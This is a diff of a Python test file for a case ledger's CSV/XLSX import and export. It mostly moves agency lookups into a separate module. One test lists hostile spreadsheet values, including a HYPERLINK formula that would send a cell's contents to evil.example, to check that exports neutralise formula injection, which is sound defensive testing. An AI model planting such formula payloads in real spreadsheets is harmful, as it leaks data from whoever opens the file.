@@ -1,4 +1,4 @@
-"""Import and export of the ledger CSV (shared/spec/ledger.md): all or nothing, with row numbers."""
+"""Import and export of the ledger CSV (spec/ledger.md): all or nothing, with row numbers."""
 
 from __future__ import annotations
 
@@ -12,11 +12,13 @@ import pytest
 from openpyxl import Workbook
 from sqlalchemy import func, select
 
-from nianbao.ledger import cases, csvio
+from nianbao.ledger import agencies, cases, csvio
 from nianbao.ledger.calendar import WorkingCalendar
 from nianbao.store.models import Agency, Application, Event
 
 if TYPE_CHECKING:
+    from sqlalchemy.orm import Session
+
     from tests.ledger_db import LedgerDB
 
 pytest_plugins = ["tests.ledger_db"]
@@ -50,7 +52,7 @@ def _import(ledger_db: LedgerDB, path: Path, agency: str = "某局") -> int:
 def test_import_creates_the_agency_and_each_case_with_its_events(ledger_db: LedgerDB, tmp_path: Path) -> None:
     assert _import(ledger_db, _write(tmp_path, GOOD)) == 3
     with ledger_db.session() as s:
-        agency = cases.find_agency(s, "某局")
+        agency = agencies.find_agency(s, "某局")
         first = cases.find_case(s, agency, "2024-001")
         assert (first.applicant_type, first.status, first.outcome) == ("natural_person", "closed", "granted")
         assert [e.kind for e in first.events] == ["registered", "closed"]
@@ -116,7 +118,7 @@ def test_a_crash_on_row_n_leaves_the_ledger_as_it_was(ledger_db: LedgerDB, tmp_p
     real = csvio._insert
     written: list[int] = []
 
-    def crash_after_writing(session: cases.Session, built: list[Application]) -> None:
+    def crash_after_writing(session: Session, built: list[Application]) -> None:
         real(session, built)  # every row is in the database, inside the transaction
         written.append(int(session.scalar(select(func.count()).select_from(Application)) or 0))
         raise RuntimeError("power failure")
@@ -140,7 +142,7 @@ def test_xlsx_with_the_same_columns_imports_like_csv(ledger_db: LedgerDB, tmp_pa
     book.save(path)
     assert _import(ledger_db, path) == 2
     with ledger_db.session() as s:
-        case = cases.find_case(s, cases.find_agency(s, "某局"), "2024001")
+        case = cases.find_case(s, agencies.find_agency(s, "某局"), "2024001")
         assert (case.applicant_type, case.received, case.outcome) == ("research", dt.date(2024, 3, 1),
                                                                       "unavailable.not_held")
 
@@ -148,7 +150,7 @@ def test_xlsx_with_the_same_columns_imports_like_csv(ledger_db: LedgerDB, tmp_pa
 def test_export_writes_what_import_reads(ledger_db: LedgerDB, tmp_path: Path) -> None:
     _import(ledger_db, _write(tmp_path, GOOD))
     with ledger_db.session() as s:
-        header, rows = csvio.export_rows(s, cases.find_agency(s, "某局"))
+        header, rows = csvio.export_rows(s, agencies.find_agency(s, "某局"))
     out = io.StringIO()
     csvio.write_csv(header, rows, out)
     text = out.getvalue()
@@ -156,13 +158,13 @@ def test_export_writes_what_import_reads(ledger_db: LedgerDB, tmp_path: Path) ->
                                    "arrived,channel,contact,来源"
     _import(ledger_db, _write(tmp_path, text, "exported.csv"), agency="另一局")
     with ledger_db.session() as s:
-        again = csvio.export_rows(s, cases.find_agency(s, "另一局"))
+        again = csvio.export_rows(s, agencies.find_agency(s, "另一局"))
     assert again == (header, rows)
     xlsx = tmp_path / "exported.xlsx"
     csvio.write_xlsx(header, rows, xlsx)
     _import(ledger_db, xlsx, agency="第三局")
     with ledger_db.session() as s:
-        assert csvio.export_rows(s, cases.find_agency(s, "第三局")) == (header, rows)
+        assert csvio.export_rows(s, agencies.find_agency(s, "第三局")) == (header, rows)
 
 
 def test_imported_cases_beyond_the_calendar_get_provisional_deadlines(ledger_db: LedgerDB, tmp_path: Path,
@@ -200,12 +202,12 @@ def test_exports_never_carry_a_live_formula_and_import_restores_the_text(ledger_
 
     hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+2", "-3-4", "@SUM(1)", "=1+1"]
     with ledger_db.session() as s, s.begin():
-        agency, _ = cases.get_or_create_agency(s, "某局")
+        agency, _ = agencies.get_or_create_agency(s, "某局")
         for n, text in enumerate(hostile):
             cases.add_case(s, agency, f"F-{n}", dt.date(2025, 3, 3), "natural_person", calendar=CAL, applicant=text,
                            request=text)
     with ledger_db.session() as s:
-        header, rows = csvio.export_rows(s, cases.find_agency(s, "某局"))
+        header, rows = csvio.export_rows(s, agencies.find_agency(s, "某局"))
     path = tmp_path / f"export{suffix}"
     if suffix == ".csv":
         with path.open("w", encoding="utf-8", newline="") as out:
@@ -222,5 +224,5 @@ def test_exports_never_carry_a_live_formula_and_import_restores_the_text(ledger_
         csvio.import_file(s, path, "某乙局", CAL)
     with ledger_db.session() as s:
         back = {c.reference: (c.applicant, c.request) for c in s.scalars(
-            select(Application).where(Application.agency_id == cases.find_agency(s, "某乙局").id))}
+            select(Application).where(Application.agency_id == agencies.find_agency(s, "某乙局").id))}
     assert back == {f"F-{n}": (text, text) for n, text in enumerate(hostile)}
